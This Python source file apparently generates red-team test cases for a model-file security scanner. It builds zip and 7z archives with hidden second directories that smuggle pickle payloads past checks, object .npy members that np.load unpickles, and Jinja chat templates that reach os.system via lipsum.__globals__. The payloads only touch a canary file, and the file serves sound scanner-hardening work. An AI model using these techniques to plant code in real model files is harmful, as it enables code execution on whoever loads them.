    parts, pos, offs = [_z_lh("pad", bytes(max(0, base - 33)))[:base]], base, {}
    for name, data in benign:
        offs[name] = pos
        parts.append(_z_lh(name, data))
        pos += len(parts[-1])
    d0 = pos
    blob_start = d0 + 30 + len("archive/data/0")
    blob = bytearray(bytes(16))  # the storage's real bytes, then what no benign reader reads
    eoffs = {}
    for name, data in evil:
        eoffs[name] = blob_start + len(blob)
        blob += _z_lh(name, data)
    cdm_at = blob_start + len(blob)
    cdm = b"".join(_z_cd(n, d, eoffs[n]) for n, d in evil)
    if mode in ("in_data", "zip64_locator", "first_end_record", "zip64_32bit"):
        blob += cdm
    z64_at = blob_start + len(blob)
    if mode == "zip64_locator":
        blob += _z64(len(evil), len(cdm), cdm_at)
    blob = bytes(blob)
    parts.append(_z_lh("archive/data/0", blob))
    P = pos + len(parts[-1])
    ents = [(n, d, offs[n]) for n, d in benign] + [("archive/data/0", blob, d0)]
    head = b"".join(parts)
    if mode == "comment":
        M = P + sum(46 + len(n) for n, _, _ in ents)
        cdp = b"".join(_z_cd(n, d, o + (M - P), cdm if n == "archive/data/0" else b"") for n, d, o in ents)
        E = P + len(cdp)
        pad = b"x" * max(0, M + len(cdp) - (E + 22))  # miniz: offset + size within the file
        return head + cdp + _z_end(len(evil), len(cdp), M, pad)
    if mode == "in_data":
        if base < max(P - cdm_at, 40):
            return two_directories(mode, program, max(P - cdm_at, 40) + 40)
        cdp = b"".join(_z_cd(n, d, o + (cdm_at - P)) for n, d, o in ents)
        return head + cdp + _z_end(len(evil), len(cdp), cdm_at)
    cdp = b"".join(_z_cd(n, d, o) for n, d, o in ents)
    if mode == "zip64_locator":
        loc = struct.pack("<4sIQI", b"PK\x06\x07", 0, z64_at, 1)
        return head + cdp + _z64(len(ents), len(cdp), P) + loc + _z_end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    if mode == "zip64_32bit":
        z64_rec = P + len(cdp)
        loc = struct.pack("<4sIQI", b"PK\x06\x07", 0, z64_rec, 1)
        return head + cdp + _z64(len(ents), len(cdp), P) + loc + _z_end(len(evil), len(cdm), cdm_at)
    if mode == "last_end_record":
        # [benign dir][E1 -> benign, comment = evil dir + E2 -> evil (comment length overruns the file)]
        e1 = P + len(cdp)
        cdm2_at = e1 + 22
        cdm2 = cdm  # the evil entries, again right before E2 so zipfile's reading agrees with torch's
        e2 = _z_end(len(evil), len(cdm2), cdm2_at, comment_len=5)
        return head + cdp + _z_end(len(ents), len(cdp), P, cdm2 + e2)
    if mode == "first_end_record":
        # [E1 -> evil dir in data/0, comment = benign dir + E2 -> benign dir (comment length overruns)]
        e1 = P
        cdp_at = e1 + 22
        e2 = _z_end(len(ents), len(cdp), cdp_at, comment_len=5)
        return head + _z_end(len(evil), len(cdm), cdm_at, cdp + e2)
    raise ValueError(mode)


def zip_count(delta: int) -> bytes:
    """A benign torch-style zip written by zipfile, its end record's entry count off by ``delta``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in _torch_members(b"\x80\x02}q\x00."):
            z.writestr(name, data)
    b = bytearray(out.getvalue())
    at = b.rfind(b"PK\x05\x06")
    n = struct.unpack_from("<H", b, at + 10)[0] + delta
    struct.pack_into("<HH", b, at + 8, n, n)
    return bytes(b)


def hidden_local(program: bytes = R15_PAYLOAD) -> bytes:
    """A zip with a local header between two members that no directory names (a streaming reader extracts it)."""
    a, h, c = ("a.txt", b"hello"), ("evil.pkl", program), ("c.txt", b"world")
    la, lh_, lc = _z_lh(*a), _z_lh(*h), _z_lh(*c)
    cd = _z_cd(*a, 0) + _z_cd(*c, len(la) + len(lh_))
    start = len(la) + len(lh_) + len(lc)
    return la + lh_ + lc + cd + _z_end(2, len(cd), start)


def sevenzip_named(names: list[str], payloads: list[bytes]) -> bytes:
    """A 7z archive (written by py7zr, header not encoded) whose members carry ``names`` exactly: each is written
    under a placeholder of the same length and patched, and the header CRCs are fixed."""
    import py7zr

    buf = io.BytesIO()
    holders = [f"{i:0{len(n)}d}"[-len(n):] for i, n in enumerate(names)]
    with py7zr.SevenZipFile(buf, "w") as z:
        z.encoded_header_mode = False
        for holder, data in zip(holders, payloads, strict=True):
            z.writestr(data, holder)
    b = bytearray(buf.getvalue())
    for holder, name in zip(holders, names, strict=True):
        old, new = holder.encode("utf-16-le") + b"\0\0", name.encode("utf-16-le") + b"\0\0"
        at = b.find(old)
        assert at > 0 and len(old) == len(new)
        b[at : at + len(old)] = new
    off, size = struct.unpack_from("<QQ", b, 12)
    struct.pack_into("<I", b, 28, zlib.crc32(bytes(b[32 + off : 32 + off + size])))
    struct.pack_into("<I", b, 8, zlib.crc32(bytes(b[12:32])))
    return bytes(b)


def round15_cases() -> list[Case]:
    cases = [
        Case("round15_zip_two_directories_comment", "4",
             "torch's miniz reads the central directory at the end record's offset, hidden in a comment of the one zipfile reads",
             "torch", CRIT, "twocd.pt", two_directories("comment")),
        Case("round15_zip_directory_in_member_data", "4",
             "the end record's offset points into a stored member's bytes, where torch reads another directory",
             "torch", CRIT, "indata.pt", two_directories("in_data")),
        Case("round15_zip64_locator", "4",
             "the zip64 locator names a second zip64 record (torch) while zipfile reads the one before the locator",
             "torch", CRIT, "zip64loc.pt", two_directories("zip64_locator")),
        Case("round15_zip_last_end_record", "4",
             "two end records: the last (torch, zipfile) sits in the comment of the first",
             "torch", CRIT, "twoend.pt", two_directories("last_end_record")),
    ]
    try:
        import py7zr  # noqa: F401 - the 7z cases need it to be written
    except ImportError:
        return cases
    cases += [
        Case("round15_7z_dot_slash", "4", "7z member './model.pkl' (py7zr extracts model.pkl)", "7z_pickle", CRIT,
             "dotslash.7z", sevenzip_named(["./model.pkl"], [R15_PAYLOAD])),
        Case("round15_7z_double_slash", "4", "7z member 'a//./m.pkl' (py7zr extracts a/m.pkl)", "7z_pickle", CRIT,
             "dslash.7z", sevenzip_named(["a//./m.pkl"], [R15_PAYLOAD])),
    ]
    return cases
# ======== END red team round 15 =========================================================================


# ======== BEGIN red team round 16 on the scanner's readers (helper rd16) ==============================
# The round-15 directory views beaten twice over. A: a directory torch's miniz reads with more entries than
# limits.max_archive_members was dropped silently (the scanner's own limit, not a broken directory). B: with a
# zip64 locator present, only zip64 readings were built; torch's miniz uses zip64 only when a record sits at the
# locator's offset and otherwise reads the 32-bit end-record fields as they are (a count of 0xFFFF included).

_R16_BENIGN_PKL = b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01K\x01s."  # {'w': 1}
_LOCATOR = struct.Struct("<4sIQI")


def _r16_archive(hidden: Callable[[int], tuple[bytes, dict[str, int]]]) -> tuple[bytes, int, list[tuple[str, bytes, int]]]:
    """Benign torch-style local headers, then ``archive/data/0`` whose stored bytes are ``hidden(start)`` (``start``:
    where those bytes begin in the file). Returns the local part, its length and the benign directory's entries."""
    parts, pos, ents = [], 0, []
    for name, data in _torch_members(_R16_BENIGN_PKL):
        parts.append(_z_lh(name, data))
        ents.append((name, data, pos))
        pos += len(parts[-1])
    blob, _ = hidden(pos + 30 + len("archive/data/0"))
    parts.append(_z_lh("archive/data/0", blob))
    ents.append(("archive/data/0", blob, pos))
    head = b"".join(parts)
    return head, len(head), ents


def _r16_evil(start: int, program: bytes) -> tuple[bytearray, dict[str, int]]:
    """16 bytes of storage, then the evil members' local headers; their offsets by name."""
    blob, offs = bytearray(16), {}
    for name, data in _torch_members(program):
        offs[name] = start + len(blob)
        blob += _z_lh(name, data)
    return blob, offs


def dead_locator(program: bytes = R15_PAYLOAD, locator_offset: int = 0) -> bytes:
    """Round 15's 'comment' layout (zipfile reads the directory before the end record, torch the one at its
    offset field, hidden in the comment of zipfile's last entry) with a zip64 locator as the last 20 bytes of
    that comment, naming no zip64 record: both loaders read the 32-bit fields; the scanner built no view (B1).
    The end record's count equals both directories' (the evil one repeats the benign ``data/0`` entry)."""
    evil_ents: dict[str, int] = {}

    def hidden(start: int) -> tuple[bytes, dict[str, int]]:
        blob, offs = _r16_evil(start, program)
        evil_ents.update(offs)
        return bytes(blob), offs

    head, P, ents = _r16_archive(hidden)
    d0 = ents[-1]
    cdm = b"".join(_z_cd(n, d, evil_ents[n]) for n, d in _torch_members(program)) + _z_cd(*d0)
    loc = _LOCATOR.pack(b"PK\x06\x07", 0, locator_offset, 1)
    M = P + sum(46 + len(n) for n, _, _ in ents)  # CD_M: right after the last entry's name, in its comment
    cdp = b"".join(_z_cd(n, d, o + (M - P), cdm + loc if n == "archive/data/0" else b"") for n, d, o in ents)
    E = P + len(cdp)
    pad = b"x" * max(0, M + len(cdp) - (E + 22))  # miniz: offset + size within the file
    return head + cdp + _z_end(len(ents), len(cdp), M, pad)


def saturated_count(program: bytes = R15_PAYLOAD, entries: int = 0xFFFF) -> bytes:
    """Zip64 whose record before the locator (zipfile) names the benign directory; the locator names no record,
    so torch reads the 32-bit fields: count ``entries`` (0xFFFF) at a directory inside ``data/0`` whose first
    entries are byte copies of the benign ones, then empty pads with the evil data.pkl after the first one (torch's
    lookup takes that one). The old "zip64 only where saturated" view read only the copies and was deduplicated (B2)."""
    evil_off: dict[str, int] = {}
    crc = 0x12345678  # data/0's CRC, the same in both copies (a 1+ MiB stored member: its CRC is not checked)
    n_benign = len(_torch_members(_R16_BENIGN_PKL)) + 1
    pads = entries - n_benign - 1
    pad_dir = b"".join(_z_cd(f"archive/p{i:05d}", b"", 0) for i in range(pads))
    evil_cd_len = 46 + len("archive/data.pkl")

    def d0_cd(size: int, off: int) -> bytes:
        n = b"archive/data/0"
        return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, crc, size, size, len(n), 0, 0, 0, 0, 0, off) + n

    def hidden(start: int) -> tuple[bytes, dict[str, int]]:
        blob = bytearray(16)
        evil_off["archive/data.pkl"] = start + len(blob)
        blob += _z_lh("archive/data.pkl", program)
        evil_off["M"] = start + len(blob)
        return bytes(blob), {}

    # Two passes: the benign directory's data/0 entry holds the blob's size, and the blob holds that directory.
    head, P, ents = _r16_archive(hidden)
    benign_cd = b"".join(_z_cd(n, d, o) for n, d, o in ents[:-1])
    d0_at = ents[-1][2]
    blob_len = len(ents[-1][1]) + len(benign_cd) + len(d0_cd(0, 0)) + len(pad_dir) + evil_cd_len
    cdp = benign_cd + d0_cd(blob_len, d0_at)
    # Where the evil entry goes among the pads decides which of the two data.pkl torch's lookup (a binary search
    # over the names sorted by an unstable sort) returns: after the first pad, torch 2.13 takes the evil one.
    cut = 46 + len("archive/p00000") if pads else 0
    cdm = cdp + pad_dir[:cut] + _z_cd("archive/data.pkl", program, evil_off["archive/data.pkl"]) + pad_dir[cut:]
    blob = ents[-1][1] + cdm
    assert len(blob) == blob_len
    d0_local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, blob_len, blob_len, 14, 0) + b"archive/data/0"
    head = head[:d0_at] + d0_local + blob
    P = len(head)
    loc = _LOCATOR.pack(b"PK\x06\x07", 0, 0, 1)  # no zip64 record at offset 0
    return head + cdp + _z64(n_benign, len(cdp), P) + loc + _z_end(0xFFFF, len(cdm), evil_off["M"])


def many_entries(program: bytes = R15_PAYLOAD, pads: int = 100_000) -> bytes:
    """Round 15's A2 (the locator names a second zip64 record inside ``data/0``) with ``pads`` more empty entries
    in the directory torch reads: over limits.max_archive_members, that view was dropped silently (A1)."""
    info: dict[str, Any] = {}

    def hidden(start: int) -> tuple[bytes, dict[str, int]]:
        blob, offs = _r16_evil(start, program)
        info["M"] = start + len(blob)
        cdm = b"".join(_z_cd(n, d, offs[n]) for n, d in _torch_members(program))
        cdm += b"".join(_z_cd(f"archive/p{i:06d}", b"", 0) for i in range(pads))
        blob += cdm
        info["Z"] = start + len(blob)
        blob += _z64(3 + pads, len(cdm), info["M"])
        return bytes(blob), {}

    head, P, ents = _r16_archive(hidden)
    cdp = b"".join(_z_cd(n, d, o) for n, d, o in ents)
    loc = _LOCATOR.pack(b"PK\x06\x07", 0, info["Z"], 1)
    return head + cdp + _z64(len(ents), len(cdp), P) + loc + _z_end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)


def round16_cases() -> list[Case]:
    return [
        Case("round16_zip_dead_zip64_locator", "4",
             "a zip64 locator naming no record: torch reads the 32-bit end-record fields (round 15's two directories)",
             "torch", CRIT, "deadloc.pt", dead_locator()),
        Case("round16_zip_saturated_count", "4",
             "locator names no record: torch reads count 0xFFFF literally; the first entries copy zipfile's directory",
             "torch", CRIT, "mixed.pt", saturated_count()),
        Case("round16_zip_many_entries", "4",
             "the directory torch reads has more entries than limits.max_archive_members",
             "torch", CRIT, "manycd.pt", many_entries()),
    ]
# ======== END red team round 16 =========================================================================
# ======== BEGIN red team round 17 on the scanner's readers (helper rd17) ==============================
# tests/test_scan_round17.py. A torch zip is also a valid .npz: np.load(allow_pickle=True) opens any member that
# starts with \x93NUMPY and unpickles it when its dtype is object, whatever role torch gives the member. The
# scanner never read tensor storages (data/<key>) or the metadata records (version, .data/serialization_id, ...).
# Fired with fire.py's "npz" loader (np.load, then every key read, as a caller iterating z.files does).


def r17_object_npy(program: bytes = R15_PAYLOAD) -> bytes:
    """An object-dtype .npy (version 1.0) whose array data is ``program``: np.load(allow_pickle=True) unpickles it."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (118 - len(header)) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + program


def r17_data_pkl(numel: int) -> bytes:
    """torch.save's data.pkl for ``{'w': uint8 tensor of numel}`` stored under key '0' (protocol 2)."""
    def uni(text: str) -> bytes:
        return b"X" + struct.pack("<I", len(text)) + text.encode()

    def num(n: int) -> bytes:
        return b"J" + struct.pack("<i", n)

    return (b"\x80\x02}" + uni("w") + b"ctorch._utils\n_rebuild_tensor_v2\n((" + uni("storage") + b"ctorch\nByteStorage\n"
            + uni("0") + uni("cpu") + num(numel) + b"tQK\x00" + num(numel) + b"\x85K\x01\x85\x89"
            + b"ccollections\nOrderedDict\n)RtRs.")


def r17_torch_zip(storage: bytes, records: dict[str, bytes] | None = None) -> bytes:
    """A torch.save-style zip (stored members) of ``{'w': uint8 tensor}`` whose storage bytes are ``storage``;
    ``records`` replaces or adds records under ``archive/``."""
    members = {"data.pkl": r17_data_pkl(len(storage)), ".format_version": b"1", ".storage_alignment": b"64",
               "byteorder": b"little", "data/0": storage, "version": b"3\n", ".data/serialization_id": b"1234567890"}
    members.update(records or {})
    out, cd = b"", b""
    for name, data in members.items():
        cd += _z_cd(f"archive/{name}", data, len(out))
        out += _z_lh(f"archive/{name}", data)
    return out + cd + _z_end(len(members), len(cd), len(out))


def round17_cases() -> list[Case]:
    return [
        Case("round17_torch_storage_npy", "4",
             "a torch zip's tensor storage data/0 is an object .npy: np.load of the zip (an .npz) unpickles it",
             "npz", CRIT, "storage_npy.pt", r17_torch_zip(r17_object_npy())),
        Case("round17_torch_meta_npy", "4",
             "a torch zip's .data/serialization_id record is an object .npy: np.load of the zip unpickles it",
             "npz", CRIT, "meta_npy.npz", r17_torch_zip(bytes(16), {".data/serialization_id": r17_object_npy()})),
    ]
# ======== END red team round 17 =========================================================================
# ======== BEGIN red team round 15 on chat templates (helper tpl15) =====================================
# tests/test_templates_round15.py. Each PoC hides d = messages[-1] (or its bound update) from the mutation analysis,
# then round 13's body (namespace(count=d.update), c1.sort(key=d.update)) and chat-keyed hops to os.system: b1 through
# |truncate (returns a short dict itself), b6 through a dotted attribute path map(attribute='0.update'), b7 through
# dd.k.append(v) stored under a pooled namespace key while dd is a dict. (Classes D and E change the caller's
# messages/tools and run nothing: they are in the test file, not here, since fire.py checks a canary.)
TEMPLATE_ROUND15_B1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set d = (messages|last)|truncate -%}\n{%- set h = namespace(count=d.update) -%}{%- set c1 = [{'fn': h, 'content': lipsum}] -%}{%- if c1.sort(key=d.update) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}\n{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}\n{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}\n{%- if (messages|last).fn.get(p[4]) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND15_B6 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set k = [[messages|last]]|map(attribute='0.update')|first -%}\n{%- set c1 = [] -%}{%- set _ = c1.append({'fn': {'count': k}}) -%}{%- if c1.sort(key=k) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': lipsum}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}\n{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}\n{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}\n{%- if (messages|last).fn.get(p[4]) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND15_B7 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set z = namespace(k=none) -%}{%- set l = [] -%}{%- set dd = {'k': l} -%}{%- for v in [messages|last] %}{% if dd.k.append(v) %}{% endif %}{% endfor -%}{%- set d = l[0] -%}\n{%- set h = namespace(count=d.update) -%}{%- set c1 = [{'fn': h, 'content': lipsum}] -%}{%- if c1.sort(key=d.update) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}\n{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}\n{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}\n{%- if (messages|last).fn.get(p[4]) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND15_CHAT = json.dumps(
    {"messages": [{"role": "user", "content": "x|__globals__|os|system|touch canary|update"}]})
_ROUND15 = {
    "b1": ("A", "(messages|last)|truncate: a short dict comes back as itself"),
    "b6": ("B", "[[messages|last]]|map(attribute='0.update')|first: a dotted path to a mutating method"),
    "b7": ("C", "dd.k.append(v) with dd a dict, stored under the pooled namespace key .k"),
}


def template_round15_cases() -> list[Case]:
    """Round 15 on chat templates: the three code-running PoCs as .jinja and as GGUF, fired by fire.py's render."""
    cases = []
    for name, (cls, how) in _ROUND15.items():
        text = globals()[f"TEMPLATE_ROUND15_{name.upper()}"].encode()
        cases.append(Case(f"template_r15_{name}", "5", f"class {cls}: {how}, then round 13's body and chat-keyed hops "
                          "to os.system (fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", text,
                          chat=TEMPLATE_ROUND15_CHAT))
        cases.append(Case(f"gguf_template_r15_{name}", "5", f"the same ({how}) as a GGUF tokenizer.chat_template",
                          "gguf_template", "WW-TPL-002", "model.gguf", _gguf_template(text), chat=TEMPLATE_ROUND15_CHAT))
    return cases
# ======== END red team round 15 on chat templates =======================================================
# ======== BEGIN red team round 16 on chat templates (helper tpl16) =====================================
# tests/test_templates_round16.py. r3 hides d = messages[-1] behind dict(pairs) of a list of [key, value] pairs built
# with append (the closure took dict(x) for a mapping's copy: one level too shallow), then stores the gadget with
# c1.sort(key=d.update) (a mutating method used as a value) and chat-keyed hops to os.system. (a1-a3 change the
# caller's messages/tools and run nothing: they are in the test file, not here, since fire.py checks a canary.)
TEMPLATE_ROUND16_R3 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set last = messages|last -%}\n{%- set pair = [] -%}{%- if pair.append('k') %}{% endif -%}{%- if pair.append(last) %}{% endif -%}\n{%- set pairs = [] -%}{%- if pairs.append(pair) %}{% endif -%}\n{%- set dk = dict(pairs) -%}{%- set d = dk.k -%}\n{%- set f = d.update -%}\n{%- set h = namespace(count=f) -%}\n{%- set e = {'fn': h, 'content': lipsum} -%}\n{%- set c1 = [] -%}{%- if c1.append(e) %}{% endif -%}{%- if c1.sort(key=f) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}\n{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}\n{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}\n{%- if (messages|last).fn.get(p[4]) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
_ROUND16 = {"r3": ("A", "dict(pairs) of appended [key, value] pairs hides messages[-1], whose update is a sort key")}


def template_round16_cases() -> list[Case]:
    """Round 16 on chat templates: the code-running PoC as .jinja and as GGUF, fired by fire.py's render."""
    cases = []
    for name, (cls, how) in _ROUND16.items():
        text = globals()[f"TEMPLATE_ROUND16_{name.upper()}"].encode()
        cases.append(Case(f"template_r16_{name}", "5", f"class {cls}: {how}, then chat-keyed hops to os.system "
                          "(fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", text,
                          chat=TEMPLATE_ROUND15_CHAT))
        cases.append(Case(f"gguf_template_r16_{name}", "5", f"the same ({how}) as a GGUF tokenizer.chat_template",
                          "gguf_template", "WW-TPL-002", "model.gguf", _gguf_template(text), chat=TEMPLATE_ROUND15_CHAT))
    return cases
# ======== END red team round 16 on chat templates =======================================================
# ======== BEGIN red team round 17 on chat templates (helper tpl17) =====================================
# tests/test_templates_round17.py. Each PoC binds the name ``loop`` (top-level set, with, macro parameter) so that
# loop.previtem looked like a constant to the analysis, while Jinja still gives every for body its LoopContext:
# the chat's parts become keys (ns.o[loop.previtem] walks lipsum.__globals__['os'].system) and g = loop.previtem
# is called with the command. (M2, R1, R2 change the caller's messages/tools and run nothing: in the test file.)
TEMPLATE_ROUND17_L3 = "{%- set loop = {'previtem': 'text', 'first': true} -%}\n{%- set g = none -%}\n{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(o=lipsum) -%}\n{%- for part in p[1:5] -%}{%- if not loop.first -%}{%- set ns.o = ns.o[loop.previtem] -%}{%- endif -%}{%- endfor -%}\n{%- for f in [ns.o, p[4]] -%}{%- if not loop.first -%}{%- set g = loop.previtem -%}{{ g(f) }}{%- endif -%}{%- endfor -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND17_W2 = "{%- set g = none -%}\n{%- with loop = {'previtem': 'text', 'first': true} -%}\n{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(o=lipsum) -%}\n{%- for part in p[1:5] -%}{%- if not loop.first -%}{%- set ns.o = ns.o[loop.previtem] -%}{%- endif -%}{%- endfor -%}\n{%- for f in [ns.o, p[4]] -%}{%- if not loop.first -%}{%- set g = loop.previtem -%}{{ g(f) }}{%- endif -%}{%- endfor -%}\n{%- endif -%}\n<|assistant|>{%- endwith -%}\n"
TEMPLATE_ROUND17_P1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- macro tail(p, loop, g) -%}\n{%- set ns = namespace(o=lipsum) -%}\n{%- for part in p[1:5] -%}{%- if not loop.first -%}{%- set ns.o = ns.o[loop.previtem] -%}{%- endif -%}{%- endfor -%}\n{%- for f in [ns.o, p[4]] -%}{%- if not loop.first -%}{%- set g = loop.previtem -%}{{ g(f) }}{%- endif -%}{%- endfor -%}\n{%- endmacro -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{{- tail((messages|last).content.split('|'), {'previtem': 'text', 'first': true}, none) -}}\n{%- endif -%}\n<|assistant|>\n"
_ROUND17 = {
    "l3": ("A", "a top-level {% set loop = {...} %}: loop.previtem taken for the bound constant"),
    "w2": ("A", "{% with loop = {...} %} around the loops: loop.previtem taken for the bound constant"),
    "p1": ("A", "a macro parameter named loop: loop.previtem taken for the argument"),
}


def template_round17_cases() -> list[Case]:
    """Round 17 on chat templates: the code-running PoCs as .jinja and as GGUF, fired by fire.py's render."""
    cases = []
    for name, (cls, how) in _ROUND17.items():
        text = globals()[f"TEMPLATE_ROUND17_{name.upper()}"].encode()
        cases.append(Case(f"template_r17_{name}", "5", f"class {cls}: {how}, then chat-keyed hops to os.system "
                          "(fired by that chat)", "jinja", "WW-TPL-012", "chat_template.jinja", text,
                          chat=TEMPLATE_ROUND15_CHAT))
        cases.append(Case(f"gguf_template_r17_{name}", "5", f"the same ({how}) as a GGUF tokenizer.chat_template",
                          "gguf_template", "WW-TPL-012", "model.gguf", _gguf_template(text), chat=TEMPLATE_ROUND15_CHAT))
    return cases
# ======== END red team round 17 on chat templates =======================================================
# ======== BEGIN red team round 18 on the scanner's readers (helper rd18) ==============================
# tests/test_scan_round18.py. A zip entry whose name ends in "/" was taken for a directory and never read, but
# zipfile.open and np.load read it by name like any member: an object .npy there is unpickled. Fired with fire.py's
# "npz" loader. The name also survives zipfile's NUL cut ('evil/\x00x'), and a torch storage key may end in '/'.


def r18_zip(members: list[tuple[str, bytes]]) -> bytes:
    """A zip of stored members, in order (names as given: one ending in '/' holds data all the same)."""
    out, cd = b"", b""
    for name, data in members:
        cd += _z_cd(name, data, len(out))
        out += _z_lh(name, data)
    return out + cd + _z_end(len(members), len(cd), len(out))


def r18_plain_npy() -> bytes:
    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
    header = header + " " * (118 - len(header)) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + bytes(16)


def r18_torch_dir_storage() -> bytes:
    """A torch zip whose storage key is '0/': the member archive/data/0/ holds an object .npy."""
    pkl = r17_data_pkl(4).replace(b"X\x01\x00\x00\x000", b"X\x02\x00\x00\x000/", 1)
    base = r17_torch_zip(bytes(4), {"data.pkl": pkl})
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        members = [(i.filename, z.read(i)) for i in z.infolist() if i.filename != "archive/data/0"]
    return r18_zip([*members, ("archive/data/0/", r17_object_npy())])


def round18_cases() -> list[Case]:
    return [
        Case("round18_npz_dir_member", "4",
             "an .npz member named 'evil/' (a directory to extractors) holds an object .npy: np.load reads it by name",
             "npz", CRIT, "dir_member.npz", r18_zip([("w.npy", r18_plain_npy()), ("evil/", r17_object_npy())])),
        Case("round18_npz_dir_member_nul", "4",
             "the same member named 'evil/\\x00x': zipfile cuts the name at the NUL, np.load opens 'evil/'",
             "npz", CRIT, "dir_nul.npz", r18_zip([("w.npy", r18_plain_npy()), ("evil/\x00x", r17_object_npy())])),
        Case("round18_torch_dir_member", "4",
             "a torch zip with an extra member 'archive/extra/' holding an object .npy: np.load of the zip unpickles it",
             "npz", CRIT, "torchdir.pt", r17_torch_zip(bytes(4), {"extra/": r17_object_npy()})),
        Case("round18_torch_dir_storage_key", "4",
             "a torch storage key '0/' (member archive/data/0/) whose bytes are an object .npy",
             "npz", CRIT, "dirkey.pt", r18_torch_dir_storage()),
    ]
# ======== END red team round 18 =========================================================================


# ======== red team round 20, class B (Keras config.json outside the one ".keras" classification) ==========
# Keras 3 builds the model from config.json before it looks at the weights and never reads metadata.json, so a
# zip with config.json and an .npz, config.json alone, config.json beside a torch data.pkl, or an unzipped folder
# all run a Lambda under keras.saving.load_model(path, safe_mode=False). The loader is "keras" (fire.py), which
# needs keras importable: these cases are kept out of malicious_cases() (keras is no dependency of ours) and are
# fired by tests/test_scan_round20_keras.py when keras can be imported.

KERAS = "WW-KERAS-001"


def _keras_func_dump(source: str) -> str:
    """What keras' func_dump writes for a lambda: base64 of its marshalled code (compiled here, never run)."""
    import base64
    import marshal

    module = compile(source, "<r20-keras-lambda>", "exec")
    code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(code)).decode("ascii") + "\n"


def r20_keras_config(act: str = ACT) -> dict[str, Any]:
    """The config.json keras.Model.save writes for Input(1) -> Lambda, the Lambda creating ./canary when the
    functional model is rebuilt (Keras calls it on the symbolic input while deserialising)."""
    dtype = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
    lam = {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"name": "lambda", "trainable": True, "dtype": dtype, "arguments": {},
                   "function": {"class_name": "__lambda__", "config": {
                       "code": _keras_func_dump(f"lambda x: ({act}, x)[1]"), "defaults": None, "closure": None}}},
        "build_config": {"input_shape": [None, 1]}, "name": "lambda",
